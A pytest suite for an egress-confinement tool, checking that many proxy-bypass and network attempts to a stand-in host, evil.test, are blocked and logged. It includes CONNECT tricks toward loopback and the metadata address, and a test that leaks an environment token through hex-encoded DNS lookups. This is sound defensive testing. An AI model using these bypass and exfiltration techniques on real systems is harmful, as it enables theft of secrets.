"""What leaves a process under `lockgate egress run`: nothing that the list does not name, and each attempt has its row.

The world around it would answer: evil.test is a real server at a public address there. (E1, E3, E4; EG-180 to EG-206.)
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import subprocess
import sys
import tempfile
from typing import Any

import pytest

from egress_capture import Capture
from egress_fixtures import DRIVER, Confined, drive
from egress_world import ADDRESS, DNS_PORT, World

PY = [sys.executable, "-I", "-c"]
TAG = "lgq7x2k9mz"  # in every name that an attempt asks for


def lookup(name: str) -> list[str]:
    return [*PY, f"import socket; print(socket.getaddrinfo({name!r}, 443))"]


def udp(host: str, port: int) -> list[str]:
    """A sender that does not wait for an answer; 0 = the kernel took the packet."""
    source = f"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'{TAG}', ({host!r}, {port}))"
    return [*PY, source]


QUIC = """
import asyncio, ssl, sys
from aioquic.asyncio import connect
from aioquic.quic.configuration import QuicConfiguration
async def main(host):
    configuration = QuicConfiguration(is_client=True, alpn_protocols=["h3"], verify_mode=ssl.CERT_NONE)
    async with connect(host, 443, configuration=configuration) as client:
        await client.ping()
asyncio.run(asyncio.wait_for(main(sys.argv[1]), float(sys.argv[2])))
"""
URL = "https://{}/hello"

# Each is one attempt to reach evil.test, or somebody else than the proxy. None may succeed.
ATTEMPTS: dict[str, dict[str, Any]] = {
    "curl through the proxy": {"argv": ["curl", "-sSf", "-m", "20", URL.format(f"{TAG}.evil.test")]},
    "curl without it": {"argv": ["curl", "-sSf", "-m", "20", URL.format(f"{TAG}a.evil.test")], "unset": True},
    "curl NO_PROXY=*": {
        "argv": ["curl", "-sSf", "-m", "20", URL.format(f"{TAG}b.evil.test")],
        "env": {"NO_PROXY": "*", "no_proxy": "*"},
    },
    "curl to the address": {
        "argv": ["curl", "-sSf", "-m9", "--resolve", f"evil.test:443:{ADDRESS}", URL.format("evil.test")],
        "unset": True,
    },
    "curl CONNECT to the address": {"argv": ["curl", "-sSf", "-m", "20", "-k", URL.format(ADDRESS)]},
    "curl plain http": {"argv": ["curl", "-sSf", "-m", "20", f"http://{TAG}c.evil.test/hello"]},
    "curl IPv6": {"argv": ["curl", "-sSfk", "-m", "20", "-6", "https://[2606:2800:220:1::34]/hello"], "unset": True},
    "curl another port of an allowed host": {"argv": ["curl", "-sSf", "-m", "20", "https://api.allowed.example:8443/"]},
    "curl DNS over HTTPS": {
        "argv": ["curl", "-sSf", "-m", "20", "--doh-url", "https://x.evil.test/q", URL.format(f"{TAG}d.evil.test")]
    },
    "git": {"argv": ["git", "ls-remote", f"https://{TAG}e.evil.test/repo.git"]},
    "git without the proxy": {"argv": ["git", "ls-remote", f"https://{TAG}f.evil.test/repo.git"], "unset": True},
    "git protocol": {"argv": ["git", "ls-remote", f"git://{TAG}g.evil.test/repo.git"]},
    "pip": {"argv": [sys.executable, "-m", "pip", "download", "-q", "--retries", "0", "-d", "/tmp", "--no-cache-dir",
                     "--disable-pip-version-check", "--index-url", f"https://{TAG}h.evil.test/simple", "demo"]},
    "pip without the proxy": {
        "argv": [sys.executable, "-m", "pip", "download", "-q", "--retries", "0", "-d", "/tmp", "--no-cache-dir",
                 "--disable-pip-version-check", "--index-url", f"https://{TAG}i.evil.test/simple", "demo"],
        "unset": True,
    },
    "python urllib": {"argv": [*PY, f"import urllib.request as u; u.urlopen('https://{TAG}j.evil.test/hello')"]},
    "python lookup": {"argv": lookup(f"{TAG}k.evil.test")},
    "python lookup under an allowed name": {"argv": lookup(f"{TAG}l.api.allowed.example")},
    "python lookup under a wildcard": {"argv": lookup(f"{TAG}m.wild.example")},
    "python reverse lookup": {"argv": [*PY, "import socket; print(socket.gethostbyaddr('93.184.216.34'))"]},
    "getent": {"argv": ["getent", "ahosts", f"{TAG}n.evil.test"]},
    "udp to a resolver": {"argv": udp("8.8.8.8", 53)},
    "udp to the world's resolver": {"argv": udp("93.184.216.53", 53)},
    "udp 443": {"argv": udp(ADDRESS, 443)},
    "ntp": {"argv": udp("162.159.200.1", 123)},
    "quic to the address": {"argv": [*PY, QUIC, ADDRESS, "3"], "unset": True},
    "quic to an allowed name": {"argv": [*PY, QUIC, "api.allowed.example", "3"], "unset": True},
    "a relay inside": {
        "argv": [*PY, """
import socket, threading
relay = socket.create_server(("127.0.0.1", 0))
def serve():
    client, _ = relay.accept()
    upstream = socket.create_connection(("127.0.0.1", 3128), 20)
    upstream.sendall(client.recv(65536)); client.sendall(upstream.recv(65536)); client.close()
threading.Thread(target=serve, daemon=True).start()
with socket.create_connection(relay.getsockname(), 20) as sock:
    sock.sendall(b"CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n")
    answer = sock.recv(65536)
raise SystemExit(0 if answer.startswith(b"HTTP/1.1 200") else 1)"""],
    },
    "the proxy as a way to loopback": {
        "argv": [*PY, """
import socket, sys
bad = 0
for target in "127.0.0.1:3128 localhost:3128 [::1]:3128 0.0.0.0:3128 169.254.169.254:80 10.255.255.53:53".split():
    with socket.create_connection(("127.0.0.1", 3128), 20) as sock:
        sock.sendall(f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n".encode())
        bad |= sock.recv(65536).startswith(b"HTTP/1.1 200")
raise SystemExit(0 if bad else 1)"""],
    },
}  # fmt: skip
TOOLS: dict[str, dict[str, Any]] = {
    "ping": {"argv": ["ping", "-c1", "-W2", ADDRESS]},
    "ping a name": {"argv": ["ping", "-c1", "-W2", f"{TAG}o.evil.test"]},
    "dig": {"argv": ["dig", "+tries=1", "+time=3", "+short", f"{TAG}p.evil.test"]},
    "dig @8.8.8.8": {"argv": ["dig", "+tries=1", "+time=2", "+short", "@8.8.8.8", f"{TAG}q.evil.test"]},
    "dig +tcp @8.8.8.8": {"argv": ["dig", "+tcp", "+tries=1", "+time=2", "+short", "@8.8.8.8", f"{TAG}r.evil.test"]},
    "dig TXT": {"argv": ["dig", "+tries=1", "+time=3", "+short", "api.allowed.example", "TXT"]},
    "dig HTTPS": {"argv": ["dig", "+tries=1", "+time=3", "+short", "api.allowed.example", "TYPE65"]},
    "node lookup": {"argv": ["node", "-e", f"require('dns').lookup('{TAG}s.evil.test', e => process.exit(e ? 1 : 0))"]},
    "node resolver": {
        "argv": ["node", "-e", f"require('dns').resolveTxt('{TAG}t.evil.test', e => process.exit(e ? 1 : 0))"]
    },
    "node fetch": {
        "argv": ["node", "-e", f"fetch('https://{TAG}u.evil.test/').then(() => process.exit(0), () => process.exit(1))"]
    },
    "npm": {"argv": ["npm", "view", "demo", "--registry", f"https://{TAG}v.evil.test/", "--fetch-retries=0",
                     "--no-update-notifier"]},
    "npm without the proxy": {
        "argv": ["npm", "view", "demo", "--registry", f"https://{TAG}w.evil.test/", "--fetch-retries=0",
                 "--no-update-notifier"], "unset": True
    },
}  # fmt: skip


class Seen:
    """What one run of all attempts left: results, rows, and the packets that were seen on both sides."""

    def __init__(self, world: World) -> None:
        place = tempfile.mkdtemp(prefix="egress-home-")
        present = {name: one for name, one in TOOLS.items() if shutil.which(one["argv"][0])}
        commands = {
            name: {**one, "env": {"HOME": place, "npm_config_cache": place, **one.get("env", {})}}
            for name, one in {**ATTEMPTS, **present}.items()
        }
        asked, served = len(world.queries()), len(world.requests())
        self.run = Confined(world, [sys.executable, "-I", str(DRIVER)])
        try:
            self.run.ready()
            with Capture(world.pid) as around, Capture(self.run.members()[-1]) as inside:
                out = self.run.finish(json.dumps(commands).encode() + b"\n")
                self.around, self.inside = around.packets(), inside.packets()
            self.results = json.loads(out.splitlines()[-1])
            self.queries, self.requests = world.queries()[asked:], world.requests()[served:]
            self.denied = self.run.denied()
            self.said = self.run.said
        finally:
            self.run.remove()
            shutil.rmtree(place, ignore_errors=True)


ROWS = [
    ("connect", "not_allowed", f"{TAG}.evil.test:443"),  # curl through the proxy
    ("dns", "not_allowed", f"{TAG}a.evil.test"),  # curl without it
    ("dns", "not_allowed", f"{TAG}b.evil.test"),  # NO_PROXY=*
    ("connect", "ip_literal_or_ambiguous", f"{ADDRESS}:443"),
    ("connect", "not_allowed", "api.allowed.example:8443"),
    ("connect", "not_allowed", f"{TAG}e.evil.test:443"),  # git
    ("dns", "not_allowed", f"{TAG}g.evil.test"),  # git://
    ("connect", "not_allowed", f"{TAG}h.evil.test:443"),  # pip
    ("dns", "not_allowed", f"{TAG}i.evil.test"),
    ("dns", "not_allowed", f"{TAG}k.evil.test"),
    ("dns", "not_allowed", f"{TAG}l.api.allowed.example"),
    ("dns", "wildcard_dns_budget", f"{TAG}m.wild.example"),
    ("dns", "not_allowed", "34.216.184.93.in-addr.arpa"),
    ("dns", "not_allowed", f"{TAG}n.evil.test"),
    ("connect", "not_allowed", "evil.test:443"),  # the relay inside
    ("connect", "not_allowed", "localhost:3128"),
]
TOOL_ROWS = {
    "dig": ("dns", "not_allowed", f"{TAG}p.evil.test"),
    "dig TXT": ("dns", "qtype_denied", "api.allowed.example"),
    "dig HTTPS": ("dns", "qtype_denied", "api.allowed.example"),
    "node lookup": ("dns", "not_allowed", f"{TAG}s.evil.test"),
    "node resolver": ("dns", "not_allowed", f"{TAG}t.evil.test"),
    "npm": ("connect", "not_allowed", f"{TAG}v.evil.test:443"),
}


@pytest.mark.timeout(300)
def test_no_client_reaches_anybody(egress_world: World) -> None:
    """E1, E3, E4 (EG-180 to EG-206): some forty attempts of real clients in one run, and what was seen of them.

    One test, since all of them together are one run. Tools that are missing are left out; scripts/setup.sh gets them.
    """
    seen = Seen(egress_world)
    reached = {
        name: (code, out, error)
        for name, (code, out, error, _) in seen.results.items()
        if "hello from" in out
        or (ADDRESS in out or "198.18." in out if name.startswith("dig") else code == 0)
        or "ModuleNotFoundError" in error  # a client that is not there proves nothing
    }
    assert reached == {}

    # Nobody outside was asked or visited: not one name, not one request, not one packet with a label in it.
    assert [one for one in seen.queries if "evil" in one or TAG in one] == []
    assert seen.requests == []
    assert [packet for packet in seen.around if TAG.encode() in packet.lower()] == []
    assert sum(TAG.encode() in packet.lower() for packet in seen.inside) > 10, "the lookups were made, and seen inside"

    # Inside, every question went to the responder.
    questions = [packet for packet in seen.inside if _is_ipv4_dns(packet)]
    assert questions
    assert [packet for packet in questions if packet[30:34] != b"\x7f\0\0\1"] == []

    # Each denial has its row, written before the client had its answer.
    expected = ROWS + [row for name, row in TOOL_ROWS.items() if name in seen.results]
    assert [row for row in expected if row not in seen.denied] == []
    assert seen.said["ended_by"] == "command"
    assert seen.said["exit_code"] == 0
    rows = sum(one[0] == "dns" for one in seen.denied)
    assert rows == sum(count for reason, count in seen.said["names"].items() if reason != "synthetic_answer")


def test_the_clients_are_there() -> None:
    """As root, where scripts/setup.sh can install them, none may be missing."""
    missing = sorted({one["argv"][0] for one in {**ATTEMPTS, **TOOLS}.values() if not shutil.which(one["argv"][0])})
    if missing and os.getuid() != 0:
        pytest.skip(f"not installed: {', '.join(missing)}")
    assert missing == []


def _is_ipv4_dns(packet: bytes) -> bool:
    """Ethernet, IPv4 without options, UDP or TCP to port 53."""
    return packet[12:14] == b"\x08\0" and packet[23] in (6, 17) and packet[36:38] == b"\0\x35"


def test_the_counter_sees_a_name_that_does_leave(egress_world: World) -> None:
    """The negative control: the same lookup outside of `egress run` is captured, answered and logged."""
    label = f"control-{secrets.token_hex(6)}"
    query = (
        "import dns.message, dns.query\n"
        f"print(dns.query.udp(dns.message.make_query('{label}.evil.test', 'A'), '127.0.0.1', 10, {DNS_PORT}).rcode())"
    )
    with Capture(egress_world.pid) as around:
        subprocess.run([*egress_world.enter, sys.executable, "-c", query], check=True, capture_output=True, timeout=60)
        packets = around.packets()
    assert any(label.encode() in packet for packet in packets)
    assert f"{label}.evil.test A" in egress_world.queries()


def test_the_world_would_have_answered(egress_world: World) -> None:
    """The other control: without `egress run` the same clients reach evil.test at the same address."""
    url = ["--resolve", f"evil.test:443:{ADDRESS}", "https://evil.test/hello"]
    done = subprocess.run(
        [*egress_world.enter, "curl", "-sSf", "-m", "30", "--cacert", str(egress_world.ca), *url],
        check=True, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert done.stdout == "hello from evil\n"
    subprocess.run([*egress_world.enter, *PY, QUIC, ADDRESS, "45"], check=True, capture_output=True, timeout=60)


def test_a_planted_value_in_a_name_ends_the_run(egress_world: World) -> None:
    """E7: the decoy that stands in the environment is looked up, in pieces and in hexadecimal; it does not leave."""
    source = (
        "import os, socket, sys, time\n"
        "print('ready', flush=True)\n"
        "value = os.environ['BACKUP_SERVICE_TOKEN'].encode().hex()\n"
        "try: socket.getaddrinfo(value[:30] + '.' + value[30:] + '.evil.test', 443)\n"
        "except OSError: pass\n"
        "time.sleep(90)\n"
        "print('still here')"
    )
    run = Confined(egress_world, [*PY, source])
    try:
        run.ready()
        assert run.finish() == ""
        assert run.process.returncode == 137
        assert run.said["ended_by"] == "canary"
        assert {one[:2] for one in run.denied()} == {("dns", "canary")}
    finally:
        run.remove()


def test_in_report_mode_what_would_be_denied_is_recorded(egress_world: World) -> None:
    """E1: for rolling a list out; the row says that it was let through."""
    results, run = drive(
        egress_world,
        {"curl": {"argv": ["curl", "-sSf", "-m", "30", "--cacert", str(egress_world.ca), "https://evil.test/hello"]},
         "lookup": {"argv": lookup("new.partner.example")}},
        "--report",
    )  # fmt: skip
    try:
        assert results["curl"][:2] == [0, "hello from evil\n"]
        assert "198.18." in results["lookup"][1]
        rows = {(one.status, one.detail.get("destination")) for one in run.rows()}
        assert ("reported", "evil.test:443") in rows
        assert ("reported", "new.partner.example") in rows
    finally:
        run.remove()
